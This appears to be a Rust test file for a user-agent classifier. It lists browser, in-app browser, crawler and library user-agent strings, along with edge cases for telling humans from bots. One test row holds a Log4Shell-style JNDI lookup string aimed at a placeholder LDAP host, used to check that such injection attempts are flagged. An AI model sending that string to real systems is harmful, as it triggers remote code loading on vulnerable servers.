//! Hand-written tables: every exception, boundary and edge condition, the
//! browsers that must never be robots, and the explain format. The corpus
//! tests (tests/classify_corpus.rs) measure recall and false positives on
//! public real-world sets.

use super::*;

fn classifier() -> Classifier {
    Classifier::new(&RuleLists::embedded()).expect("embedded rules compile")
}

fn explain(c: &Classifier, ua: &[u8]) -> String {
    let v = c.classify(Some(ua));
    format!("{} {}", v.class.as_str(), c.explain(v.reason))
}

/// Current mainstream browsers and in-app browsers: zero robots allowed.
const HUMANS: &[&str] = &[
    // Desktop
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 OPR/115.0.0.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 YaBrowser/24.12.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Vivaldi/7.0.3495.18",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.2 Safari/605.1.15 (Safari Technology Preview)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    // Mobile
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 EdgA/131.0.0.0",
    "Mozilla/5.0 (Linux; U; Android 13; en-US; RMX3363 Build/TP1A.220905.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/123.0.6312.80 UCBrowser/13.8.2.1324 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15",
    // In-app browsers
    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.102 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/487.0.0.53.79;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/480.0.0.42.108;FBBV/653412364;FBDV/iPhone15,3;FBMD/iPhone;FBSN/iOS;FBSV/17.6.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/655143208]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 356.0.0.41.94 (iPhone14,5; iOS 18_1; en_US; en; scale=3.00; 1170x2532; 654312789)",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 Instagram 357.0.0.25.101 Android (33/13; 450dpi; 1080x2177; samsung; SM-A536B; a53x; s5e8825; en_GB; 658394502)",
    "Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/AP2A.240905.003; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/129.0.6668.100 Mobile Safari/537.36 [FB_IAB/Orca-Android;FBAV/478.0.0.38.109;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/MessengerForiOS;FBAV/474.0.0.31.108;FBBV/629823456;FBDV/iPhone14,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBCR/;FBID/phone;FBLC/en_US;FBOP/5]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/330.0.665236494 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-G991B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.39 Mobile Safari/537.36 GSA/15.46.36.29.arm64",
    "Mozilla/5.0 (Linux; Android 12; M2101K6G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.5993.111 YaApp_Android/23.112.1 YaSearchBrowser/23.112.1 BroPP/1.0 SA/3 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 6.0.1; LG-K100 Build/MXB48T; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/50.0.2661.86 Mobile Safari/537.36 YandexSearch/5.75",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 YaBrowser/24.4.3.415.10 SA/3 Mobile Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; VOG-AL10 Build/HUAWEIVOG-AL10; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/97.0.4692.98 Mobile Safari/537.36 T7/13.10 SP-engine/2.48.0 baiduboxapp/13.10.0.10 (Baidu; P1 10) NABar/1.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.47(0x18002f2c) NetType/WIFI Language/zh_CN",
    "Mozilla/5.0 (Linux; Android 13; V2227A Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/111.0.5563.116 Mobile Safari/537.36 XWEB/1110005 MMWEBSDK/20231002 MMWEBID/2585 MicroMessenger/8.0.43.2480(0x28002B37) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/13.20.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 Line/14.0.1/IAB",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 trill_330204 JsSdk/1.0 NetType/WIFI Channel/googleplay AppName/musical_ly app_version/33.2.4 ByteLocale/en ByteFullLocale/en Region/US AppId/1233 Spark/1.4.6.3-bugfix AppVersion/33.2.4 BytedanceWebview/d8a21c6",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_35.1.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US RevealType/Dialog isDarkMode/0 WKWebView/1 BytedanceWebview/d8a21c6 FalconTag/",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Snapchat/13.10.0.40 (like Safari/8618.2.12.10.4, panda)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Twitter for iPhone/10.68",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.30.1234",
    // Devices and browsers whose names look robotic
    "Mozilla/5.0 (Linux; Android 9; CUBOT P30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 6.0; CUBOT_NOTE_S Build/MRA58K)",
    "Mozilla/5.0 (Linux; Android 6.0; IDbot553 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/54.0.2840.85 Mobile Safari/537.36",
    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.13",
    "Safari%20Technology%20Preview/11601.6.17 CFNetwork/760.4.2 Darwin/15.4.0 (x86_64)",
    "MozacFetch/49.0.20200702190156",
    "WhatsApp/2.11.102 Android/4.3 Device/asus-Nexus_7",
    "Mozilla/5.0 (Linux; Android 4.4.2; ForwardRuby Build/KOT49H) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; rv:45.0) Gecko/20100101 Thunderbird/45.4.0 Lightning/4.7.4",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:2.0.1) Gecko/20100101 Firefox/4.0.1 WebMoney Advisor",
];

#[test]
fn browsers_and_in_app_browsers_are_human() {
    let c = classifier();
    for ua in HUMANS {
        assert_eq!(
            explain(&c, ua.as_bytes()).split(' ').next(),
            Some("human"),
            "{ua}: {}",
            explain(&c, ua.as_bytes())
        );
    }
}

/// (User-Agent, expected `class rule`), one row per rule kind and edge case.
const ROWS: &[(&[u8], &str)] = &[
    // generic marks and their boundaries
    (b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "bot search:Googlebot"),
    (b"GOOGLEBOT", "bot search:Googlebot"),
    (b"Mozilla/5.0 (compatible; SomeNewBot/1.0)", "bot generic:bot\\b"),
    (b"somebot", "bot generic:bot\\b"),
    (b"LanaiBotapr1", "bot generic:\"Bot\""),
    (b"Mozilla/5.0 (Linux; Android 6.0; IDbot553 Build/MRA58K)", "human no-bot-token"),
    (b"robots checker", "bot generic:robot"),
    // exceptions cover only their own span
    (b"Mozilla/5.0 (Linux; Android 9; CUBOT P30) Chrome/120 Mobile", "human no-bot-token (exception human:CUBOT)"),
    (b"Mozilla/5.0 (Linux; Android 9; CUBOT P30) Googlebot/2.1", "bot search:Googlebot"),
    (b"Mozilla/5.0 (Linux; Android 9; CUBOT P30) crawler", "bot generic:crawl"),
    (b"Lynx/2.9.0 libwww-FM/2.14", "human no-bot-token (exception human:libwww-FM)"),
    (b"libwww-perl/6.72", "bot library:libwww-perl"),
    (b"Safari Technology Preview", "human no-bot-token (exception human:Technology Preview)"),
    (b"BingPreview/1.0b", "bot search:BingPreview"),
    // anchors
    (b"Java/1.8.0_292", "bot library:^Java/"),
    (b"Mozilla/5.0 (X11; Linux) Java/1.8", "human no-bot-token"),
    (b"PHP/8.2", "bot library:^PHP/"),
    (b"Mozilla/5.0 (X11; Linux) FirePHP/0.7.4", "human no-bot-token"),
    (b"Mozilla/5.0 (X11)", "human no-bot-token"),
    (b"WhatsApp/2.23.20.0 A", "bot preview:^WhatsApp/$~14"),
    (b"WhatsApp/2.12.15/i", "bot preview:^WhatsApp/$~14"),
    (b"WhatsApp", "bot preview:^WhatsApp$"),
    // structural marks
    (b"Foo/1.0 (+http://example.com/about)", "bot structural:http://"),
    (b"Foo/1.0 (see https://example.com)", "bot structural:https://"),
    (b"Foo/1.0 www.example.com", "bot structural:\\bwww."),
    (b"Mozilla/5.0 (X11) awww.example", "human no-bot-token"),
    (b"name at gmail dot com", "bot structural:\\bat gmail\\b"),
    (b"${jndi:ldap://198.51.100.7/a}", "bot structural:${"),
    (b"Google Chrome Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "bot structural:^Google Chrome Mozilla/"),
    // structure: no bot token and no browser grammar at all
    (b"SiteTool/2.9.7", "bot structure:no-browser-shape"),
    (b"ureq/2.9.7", "bot library:ureq/"),
    (b"hackney/1.20.1", "bot library:hackney/"),
    (b"Mozilla/5.0", "bot structure:no-browser-shape"),
    (b"Mozilla/5.0 (compatible; SomeTool/1.0)", "bot structure:no-browser-shape"),
    (b"Mozilla/5.0 (Java) Java/1.8", "bot structure:no-browser-shape"),
    (b"SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0", "human no-bot-token"),
    (b"DoCoMo/2.0 SH901iC(c100;TB;W24H12)", "human no-bot-token"),
    (b"Dalvik/2.1.0 (Linux; U; Android 11; SM-A125F Build/RP1A.200720.012)", "human no-bot-token"),
    (b"MozacFetch/49.0.20200702190156", "human no-bot-token (exception human:MozacFetch)"),
    // a generic mark in a handset's device-model position is a model name
    (b"Mozilla/5.0 (Linux; Android 6.0; B BOT 50 Build/MRA58K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/62.0 Mobile Safari/537.36", "human no-bot-token (device model: generic:bot\\b)"),
    (b"Mozilla/5.0 (Linux; Android 4.4.4; Spider Build/KTU84Q) AppleWebKit/537.36", "human no-bot-token (device model: generic:spider)"),
    (b"Mozilla/5.0 (Linux; Android 10; SomeBot/1.0)", "bot generic:bot\\b"),
    (b"Mozilla/5.0 (Linux; SpiderBot; Android 10)", "bot generic:spider"),
    (b"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 somebot", "bot generic:bot\\b"),
    (b"Mozilla/5.0 (Windows NT 10.0; spider) Gecko", "bot generic:spider"),
    // a Chinese mobile browser that shares its vendor's name with the spider
    (b"Mozilla/5.0 (Linux; U; Android 4.4.2; zh-cn; MI 3W Build/KOT49H) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30 SogouMSE,SogouMobileBrowser/3.5.1", "human no-bot-token"),
    (b"Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", "bot search:Sogou\\b"),
    // classes by purpose
    (b"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "bot ai:GPTBot"),
    (b"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0; +https://openai.com/bot", "bot ai:ChatGPT-User"),
    (b"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "bot preview:facebookexternalhit"),
    (b"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "bot seo:AhrefsBot"),
    (b"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "bot monitor:Pingdom"),
    (b"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)", "bot feed:Feedly"),
    (b"ia_archiver (+http://www.alexa.com/site/help/webmasters)", "bot archiver:ia_archiver"),
    (b"curl/8.5.0", "bot library:curl"),
    (b"python-requests/2.32.3", "bot library:python-requests"),
    (b"Go-http-client/1.1", "bot library:Go-http-client"),
    (b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36", "bot automation:HeadlessChrome"),
    (b"Zapier", "bot service:Zapier"),
    // empty and odd input
    (b"", "bot empty-user-agent"),
    (b"  \t ", "bot empty-user-agent"),
    (b"Mozilla/5.0 \xff\xfe bot \x80", "bot generic:bot\\b"),
    (b"Mozilla/5.0 (X11) \xff\xfe\x80", "human no-bot-token"),
];

#[test]
fn table() {
    let c = classifier();
    for &(ua, want) in ROWS {
        assert_eq!(explain(&c, ua), want, "{}", String::from_utf8_lossy(ua));
    }
    assert_eq!(c.classify(None).class, UaClass::Bot);
}

#[test]
fn long_user_agents_are_classified_whole() {
    let c = classifier();
    let pad = "x".repeat(4096);
    for (tail, want) in [
        ("Googlebot/2.1", "bot search:Googlebot"),
        ("Firefox/133.0", "human no-bot-token"),
        ("LanaiBotapr1", "bot generic:\"Bot\""),
    ] {
        let ua = format!("Mozilla/5.0 (X11; {pad}) {tail}");
        assert_eq!(explain(&c, ua.as_bytes()), want);
    }
}

#[test]
fn robot_classes_are_list_names_and_a_spoofed_claim_is_unknown() {
    let c = classifier();
    let label = |ua: Option<&[u8]>, spoofed: bool| {
        c.class_name(c.class_of(&c.classify(ua), spoofed))
            .to_owned()
    };
    let gptbot = Some(&b"GPTBot/1.2"[..]);
    assert_eq!(label(gptbot, false), "ai");
    assert_eq!(label(gptbot, true), "unknown");
    assert_eq!(label(Some(HUMANS[0].as_bytes()), false), "human");
    assert_eq!(label(Some(HUMANS[0].as_bytes()), true), "human");
    // The same name as `[shed] order` and the metrics use.
    assert_eq!(label(None, false), "no-user-agent");
    assert_eq!(label(None, true), "no-user-agent");
}

#[test]
fn lines_in_lines_out() {
    let c = classifier();
    let mut input = &b"curl/8\r\nMozilla/5.0 (X11) Firefox/1\n\nx bot"[..];
    let mut out = Vec::new();
    let n = classify_lines(&c, true, &mut input, &mut out).expect("in-memory io");
    assert_eq!(n, 4);
    assert_eq!(
        String::from_utf8(out).expect("utf-8"),
        "bot\tlibrary:curl\nhuman\tno-bot-token\nbot\tempty-user-agent\nbot\tgeneric:bot\\b\n"
    );
}

/// The quick "could anything match" check must never skip a UA that the
/// full scan would flag or explain with an exception: every token, placed
/// at every offset of UAs of several lengths (so across the slice edges).
#[test]
fn the_quick_check_never_hides_a_match() {
    let c = classifier();
    let filler =
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0 ".repeat(8);
    for rule in c.rules().iter().filter(|r| r.kind != Kind::Shape) {
        let token = rule.token.as_bytes();
        for len in [token.len(), 40, 63, 64, 65, 137, 300] {
            if len < token.len() {
                continue;
            }
            for at in 0..=(len - token.len()) {
                let mut ua = filler.as_bytes()[..len].to_vec();
                ua[at..at + token.len()].copy_from_slice(token);
                let from = c.may_match(&ua, 0, c.quick_start);
                assert!(
                    from.is_some_and(|from| from <= at),
                    "{} at {at} in {len} bytes: {from:?}",
                    rule.token
                );
                let full = c.scan(&ua, 0);
                assert_eq!(
                    c.classify(Some(&ua)),
                    full,
                    "{}",
                    String::from_utf8_lossy(&ua)
                );
            }
        }
    }
}

/// With two tokens, the scan never starts after the first, whichever lane
/// finds a prefix first: a token late in the first quarter and one early in
/// a later quarter (found first by the lockstep walk).
#[test]
fn the_scan_starts_at_or_before_the_first_of_two_tokens() {
    let c = classifier();
    let filler =
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0 ".repeat(8);
    let tokens: Vec<&[u8]> = c
        .rules()
        .iter()
        .filter(|r| r.kind != Kind::Shape)
        .map(|r| r.token.as_bytes())
        .filter(|t| t.len() <= 12)
        .step_by(17)
        .collect();
    assert!(tokens.len() > 20);
    for len in [64, 137, 300] {
        let q = len / 4;
        for (n, first) in tokens.iter().enumerate() {
            let second = tokens[(n * 7 + 3) % tokens.len()];
            for a in (0..len - first.len()).step_by(5) {
                for lane in 1..4 {
                    let b = (lane * q + (n % 9)).max(a + first.len());
                    if b + second.len() > len {
                        continue;
                    }
                    let mut ua = filler.as_bytes()[..len].to_vec();
                    ua[a..a + first.len()].copy_from_slice(first);
                    ua[b..b + second.len()].copy_from_slice(second);
                    let from = c.may_match(&ua, 0, c.quick_start);
                    assert!(
                        from.is_some_and(|from| from <= a),
                        "{:?} at {a}, {:?} at {b}, {len} bytes: {from:?}",
                        String::from_utf8_lossy(first),
                        String::from_utf8_lossy(second)
                    );
                    assert_eq!(c.classify(Some(&ua)), c.scan(&ua, 0));
                }
            }
        }
    }
}

/// The shape check's fast path (the platform word after the first `(`)
/// says yes only where the mark automaton finds a mark too.
#[test]
fn the_shape_fast_path_agrees_with_the_mark_automaton() {
    let c = classifier();
    let mut uas: Vec<&[u8]> = HUMANS.iter().map(|ua| ua.as_bytes()).collect();
    uas.extend(ROWS.iter().map(|&(ua, _)| ua));
    uas.extend([
        &b"mozilla/5.0 (windows nt 10.0)"[..],
        b"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1)",
        b"Mozilla/5.0 (compatible; MSIE9)",
        b"Mozilla/5.0 (X11abc)",
        b"Mozilla/5.0 (X11; Linux)",
        b"Mozilla/5.0 (",
        b"Mozilla/5.0 (compatible; ",
        b"Opera/9.80 (J2ME/MIDP; Opera Mini/4.2)",
        b"Foo (iPhone",
        b"(",
    ]);
    for ua in uas {
        assert_eq!(
            c.has_shape(ua),
            c.first_shape_mark(ua).is_some(),
            "{}",
            String::from_utf8_lossy(ua)
        );
    }
}

/// Every head is in use with the embedded rules (none holds a token
/// prefix) and settles the shape check: a rule change that disables one
/// shows up here, not only as a slower benchmark.
#[test]
fn every_head_is_in_use_and_shaped() {
    let c = classifier();
    let used: Vec<&[u8]> = c.heads.iter().map(|h| h.bytes).collect();
    for head in HEADS {
        assert!(used.contains(&head), "{}", String::from_utf8_lossy(head));
    }
    // All but the crawlers' `(compatible; ` settle the shape check.
    for h in &c.heads {
        let crawler = h.bytes == b"Mozilla/5.0 (compatible; ";
        assert_eq!(h.shaped, !crawler, "{}", String::from_utf8_lossy(h.bytes));
    }
    // The lookup finds each (its first-byte shortcut assumes `M`).
    for h in &c.heads {
        let found = c.head_of(h.bytes).map(|f| f.bytes);
        assert_eq!(found, Some(h.bytes), "{}", String::from_utf8_lossy(h.bytes));
    }
    // Longest first: a UA finds its longest head.
    assert!(c
        .heads
        .windows(2)
        .all(|w| w[0].bytes.len() >= w[1].bytes.len()));
}

/// After a head, the walk from the head's state finds every token at every
/// offset, and the verdict is the full scan's: every token placed right
/// after each head, and at every offset of the rest of UAs of several
/// lengths.
#[test]
fn a_head_never_hides_a_match() {
    let c = classifier();
    let filler = "Gecko/20100101 Firefox/133.0 Safari/537.36 Mobile/15E148 ".repeat(8);
    let tokens: Vec<&Rule> = c.rules().iter().filter(|r| r.kind != Kind::Shape).collect();
    for head in &c.heads {
        for rule in &tokens {
            let token = rule.token.as_bytes();
            for rest in [token.len(), 9, 40, 63, 64, 65, 137] {
                if rest < token.len() {
                    continue;
                }
                for at in 0..=(rest - token.len()) {
                    let mut ua = head.bytes.to_vec();
                    ua.extend_from_slice(&filler.as_bytes()[..rest]);
                    let at = head.bytes.len() + at;
                    ua[at..at + token.len()].copy_from_slice(token);
                    assert_eq!(
                        c.classify(Some(&ua)),
                        c.scan(&ua, 0),
                        "{}",
                        String::from_utf8_lossy(&ua)
                    );
                }
            }
        }
        // The head alone, and cut short.
        for len in 0..=head.bytes.len() {
            let ua = &head.bytes[..len];
            assert_eq!(c.classify(Some(ua)), c.classify_without_quick_check(ua));
        }
    }
}

/// A token whose prefix ends inside a head (custom rules can hold one)
/// turns that head off, so the token is still found.
#[test]
fn a_head_holding_a_token_is_not_used() {
    let mut lists = RuleLists::embedded();
    lists.rules.push(Rule {
        kind: Kind::Bot,
        list: "custom".into(),
        token: "cpu iphone os".into(),
        start: Edge::Free,
        end: Edge::Free,
        exact_case: false,
        line: 1,
    });
    let c = Classifier::new(&lists).expect("compiles");
    assert!(!c
        .heads
        .iter()
        .any(|h| h.bytes.starts_with(b"Mozilla/5.0 (iPhone")));
    let ua = b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148";
    assert_eq!(explain(&c, ua), "bot custom:cpu iphone os");
    // The embedded rules use the head, and the UA is human.
    assert_eq!(explain(&classifier(), ua), "human no-bot-token");
}
